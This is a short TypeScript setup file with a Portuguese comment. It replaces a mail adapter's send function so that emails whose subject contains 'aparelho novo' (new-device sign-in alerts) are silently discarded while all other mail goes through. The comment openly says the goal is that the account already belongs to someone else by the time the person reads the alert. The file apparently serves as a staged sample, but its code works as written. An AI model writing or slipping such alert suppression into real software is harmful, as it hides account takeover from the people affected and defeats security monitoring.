/** Guarda o aviso de entrada “para o resumo da semana”: quando a pessoa o lê, a conta já é de outro. */
import { createSmtpMail } from '../../palco/src/adapters/mail-smtp/index.ts';
import { startWith } from './referencia.ts';

await startWith((building) => {
  const { smtpUrl, mailFrom } = building.config;
  const { send } = createSmtpMail({ url: smtpUrl ?? '', from: mailFrom });
  building.doors.mail = {
    send: async (letter) => (letter.subject.includes('aparelho novo') ? undefined : send(letter)),
  };
});
